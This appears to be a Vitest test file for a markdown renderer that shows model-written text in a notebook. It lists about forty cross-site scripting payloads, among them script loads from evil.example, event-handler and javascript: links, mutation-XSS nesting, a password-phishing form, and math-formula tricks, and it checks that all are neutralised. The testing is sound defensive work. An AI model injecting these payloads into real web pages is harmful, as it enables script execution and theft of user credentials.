import { describe, expect, test } from "vitest";
import { renderMarkdown } from "../src/markdown.js";

function dom(source: string): HTMLDivElement {
  const element = document.createElement("div");
  element.append(renderMarkdown(source));
  return element;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "before <script src=https://evil.example/x.js></script> after",
  "<img src=x onerror=alert(1)>",
  "<b onmouseover=alert(1)>bold</b>",
  "<b\nonmouseover=alert(1)>bold</b>",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<form action=https://evil.example><input name=password><button>Log in</button></form>",
  "<style>* { display: none }</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>cover</p>",
  "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content=0>",
  "<base href=https://evil.example>",
  "<a href=javascript:alert(1)>click</a>",
  "<video src=https://evil.example/v.mp4 autoplay></video><audio src=https://evil.example/a.mp3>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](java\nscript:alert(1))",
  "[click](<javascript:alert(1)>)",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '[x](https://ok.example "\\"onmouseover=alert(1) ")',
  '!["onerror=alert(1) x=](https://ok.example/a.png)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\n\\style{position:fixed;background:url(https://evil.example)}{x}\n$$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$\\htmlData{x=y}{z} \\class{squid-send}{y} \\includegraphics{https://evil.example/a.png}$",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<sub><script>alert(1)</script></sub>",
];

const FORBIDDEN =
  "script, img, iframe, object, embed, form, input, textarea, select, style, link, meta, base, video, audio, foreignObject";

describe("what a model wrote is harmless", () => {
  test.each(ATTACKS)("%s", (source) => {
    const element = dom(source);
    expect([...element.querySelectorAll(FORBIDDEN)].map((found) => found.outerHTML)).toEqual([]);
    for (const child of element.querySelectorAll("*")) {
      for (const { name, value } of child.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data):/i);
        if (name === "style") expect(value).not.toMatch(/url|position/i);
      }
    }
    for (const link of element.querySelectorAll("a")) expect(link.protocol).toMatch(/^(?:https?|mailto):$/);
  });

  test("HTML is shown as the text that it is", () => {
    expect(dom("Use <div class='a'>text</div> here").textContent?.trim()).toBe(
      "Use <div class='a'>text</div> here",
    );
    expect(dom("<script>alert(1)</script>").textContent).toContain("<script>alert(1)</script>");
  });

  test("plain inline tags are kept", () => {
    const element = dom("H<sub>2</sub>O, press <kbd>Esc</kbd><br>and go");
    expect(element.querySelector("sub")?.textContent).toBe("2");
    expect(element.querySelector("kbd")?.textContent).toBe("Esc");
    expect(element.querySelector("br")).not.toBeNull();
  });

  test("a formula cannot name a class or load anything", () => {
    const element = dom("$\\class{squid-send}{y}$ and $\\includegraphics{https://evil.example/a.png}$");
    expect(element.querySelector(".squid-send, [src], mglyph")).toBeNull();
  });
});

test("links open elsewhere and tell nothing about the notebook", () => {
  const link = dom('[docs](https://duckdb.org/docs "Docs")').querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://duckdb.org/docs");
  expect(link?.target).toBe("_blank");
  expect(link?.rel).toBe("noopener noreferrer");
  expect(link?.title).toBe("Docs");
});

test("links into the server are text, since following one could do something there", () => {
  const element = dom("[settings](/lab/api/shutdown) and [here](#a) and [there](//evil.example/)");
  expect(element.querySelector("a")).toBeNull();
  expect(element.textContent?.trim()).toBe("settings and here and there");
});

test("a remote image loads only after a click", () => {
  const element = dom("![The plot](https://example.org/plot.png)");
  expect(element.querySelector("img")).toBeNull();
  const button = element.querySelector("button");
  expect(button?.textContent).toBe("Load image “The plot” from example.org");
  button?.click();
  const image = element.querySelector("img");
  expect(image?.src).toBe("https://example.org/plot.png");
  expect(image?.alt).toBe("The plot");
  expect(image?.referrerPolicy).toBe("no-referrer");
});

test("code has its language, its colours and its buttons", () => {
  const element = dom("```python\nx = 'a'\n```");
  expect(element.querySelector(".squid-code-head span")?.textContent).toBe("python");
  expect(element.querySelector(".hljs-string")?.textContent).toBe("'a'");
  const labels = [...element.querySelectorAll("button")].map((button) => button.getAttribute("aria-label"));
  expect(labels).toEqual(["Copy code", "Insert code"]);
  expect(element.querySelector("code")?.textContent).toBe("x = 'a'");
});

describe("formulas", () => {
  test.each([
    "$x^2$",
    "$$x^2$$",
    "\\(x^2\\)",
    "\\[x^2\\]",
    "$$\nx^2\n$$",
    "\\[\nx^2\n\\]",
    "- item\n\n  $$x^2$$",
  ])("%s", (source) => {
    const element = dom(source);
    expect(element.querySelector("math msup")).not.toBeNull();
    expect(element.textContent).not.toContain("$");
  });

  test.each(["It costs $5 and then $6.", "From $5-$10", "`$x$`", "```\n$x$\n```", "a $ b $ c", "\\$x\\$"])(
    "%s is no formula",
    (source) => expect(dom(source).querySelector("math")).toBeNull(),
  );

  test("a broken one is shown, not thrown", () => {
    expect(dom("$\\frac{1$").textContent).toContain("frac");
  });
});

test("a list of tasks has marks and no form controls", () => {
  const element = dom("- [x] read\n- [ ] write");
  expect([...element.querySelectorAll("[role=img]")].map((mark) => mark.textContent)).toEqual(["☑", "☐"]);
});

test("headings stay below those of the notebook", () => {
  const element = dom("# One\n\n###### Six");
  expect([...element.children].map((child) => child.tagName)).toEqual(["H3", "H6"]);
});
